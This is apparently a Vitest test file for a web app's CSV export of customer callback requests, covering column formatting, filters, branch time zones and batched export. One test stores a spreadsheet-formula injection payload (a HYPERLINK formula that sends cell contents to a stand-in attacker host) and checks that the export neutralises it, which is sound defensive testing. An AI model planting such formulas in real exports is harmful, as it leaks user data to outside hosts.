import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { beforeEach, expect, it } from 'vitest'
import { createTestDatabase } from '#tests/fixtures/database/test-database.ts'
import { shareInFile } from '#tests/fixtures/lifetime/share-in-file.ts'
import { addRequest } from '#tests/factories/requests.ts'
import { exportRequests, listRequests } from './list-requests.server.ts'

const database = await shareInFile(createTestDatabase())
const context = { db: database.db, timeZone: 'Europe/Moscow' }
beforeEach(async () => {
  await sql`truncate request restart identity cascade`.execute(database.db)
})

async function exportRows(filter: Parameters<typeof exportRequests>[1] = {}): Promise<Record<string, string>[]> {
  const pieces: string[] = []
  for await (const piece of exportRequests(context, filter)) pieces.push(piece)
  return parse(pieces.join(''), { bom: true, columns: true, delimiter: ';', recordDelimiter: '\r\n' })
}

it('the table has a readable line for each request', async () => {
  const { id } = await addRequest(database.db, {
    createdAt: new Date('2026-11-20T11:20:00Z'),
    name: 'Анна',
    email: 'anna@example.ru',
    comment: 'Позвоните;\nпосле "шести"',
    channels: ['mail', 'crm'],
  })
  await database.db
    .updateTable('request')
    .set({ details: JSON.stringify({ call_time: 'evening' }) })
    .execute()
  expect(await exportRows()).toMatchObject([
    {
      Номер: String(id),
      Получена: '2026-11-20 14:20',
      Вид: 'Заказ звонка',
      Имя: 'Анна',
      Телефон: '8 (916) 123-45-67',
      'Электронная почта': 'anna@example.ru',
      Комментарий: 'Позвоните;\nпосле "шести"',
      Подробности: 'Когда позвонить: Вечером, 17–21',
      'Согласен на рекламу': 'нет',
      Файлов: '0',
      Доставки: 'crm: waiting, mail: waiting',
    },
  ])
})

it('the visitor’s input is never a formula', async () => {
  const typed = '=HYPERLINK("https://evil.example?"&A1;"Скидка")'
  await addRequest(database.db, { name: typed, comment: `\t${typed}`, email: '+cmd@example.ru' })
  await database.db
    .updateTable('request')
    .set({ details: JSON.stringify({ parts: typed, [typed]: typed }), page_url: typed, referrer: '@SUM(1)' })
    .execute()
  const [row = {}] = await exportRows()
  const cells = Object.values(row)
  expect(cells.filter((cell) => cell.includes('evil'))).toHaveLength(4)
  for (const cell of cells) expect(cell.trimStart()).not.toMatch(/^[=+\-@\t\r]/)
})

it('a filter selects the same requests in a list and in a table', async () => {
  await addRequest(database.db, { createdAt: new Date('2026-01-01T00:00:00Z'), name: 'Ранняя' })
  const { id } = await addRequest(database.db, { name: 'Подозрительная' })
  await database.db.updateTable('request').set({ suspicion: 'honeypot' }).where('id', '=', id).execute()
  const filters = [{}, { since: new Date('2026-01-02T00:00:00Z') }, { isSuspect: true }, { kinds: ['trade'] }] as const
  const exported = await Promise.all(filters.map(async (filter) => (await exportRows(filter)).map((row) => row.Имя)))
  expect(exported).toEqual([['Ранняя', 'Подозрительная'], ['Подозрительная'], ['Подозрительная'], []])
  const listed = await Promise.all(filters.map((filter) => listRequests(context, filter, 10)))
  expect(listed.map((list) => list.length)).toEqual([2, 1, 1, 0])
  expect((await listRequests(context, { delivery: 'waiting' }, 1)).map(({ name }) => name)).toEqual(['Подозрительная'])
  expect(await listRequests(context, { delivery: 'dead' }, 10)).toEqual([])
})

it('a day begins at midnight in the time zone of the branch', async () => {
  const midnight = new Date('2026-01-01T21:30:00Z')
  const { id: ural } = await addRequest(database.db, { createdAt: new Date('2026-01-01T19:30:00Z'), name: 'Урал' })
  await addRequest(database.db, { createdAt: new Date('2026-01-01T20:30:00Z'), name: 'Вечер' })
  await addRequest(database.db, { createdAt: midnight, name: 'Полночь' })
  const branch = await database.db
    .insertInto('branch')
    .values({
      slug: 'ural',
      name: 'Урал',
      city: 'Екатеринбург',
      address: '1',
      phone: '73430000000',
      hours: '[]',
      time_zone: 'Asia/Yekaterinburg',
      position: 1,
    })
    .returning('id')
    .executeTakeFirstOrThrow()
  await database.db.updateTable('request').set({ branch_id: branch.id }).where('id', '=', ural).execute()
  expect((await exportRows({ sinceDay: '2026-01-02' })).map(({ Имя, Получена }) => [Имя, Получена])).toEqual([
    ['Урал', '2026-01-02 00:30'],
    ['Полночь', '2026-01-02 00:30'],
  ])
  const listed = await listRequests(context, { sinceDay: '2026-01-02' }, 10)
  expect(listed.map(({ name, timeZone }) => [name, timeZone])).toEqual([
    ['Полночь', null],
    ['Урал', 'Asia/Yekaterinburg'],
  ])
})

it('many requests are exported in batches, each once', async () => {
  await sql`
    insert into request (kind, form, idempotency_key, body_hash, submitted_at)
    select 'call', 'request-call', gen_random_uuid(), '', now() from generate_series(1, 1203)`.execute(database.db)
  let pieces = 0
  for await (const _piece of exportRequests(context, {})) pieces += 1
  expect(pieces).toBe(4)
  const rows = await exportRows()
  expect(new Set(rows.map((row) => row.Номер)).size).toBe(1203)
})
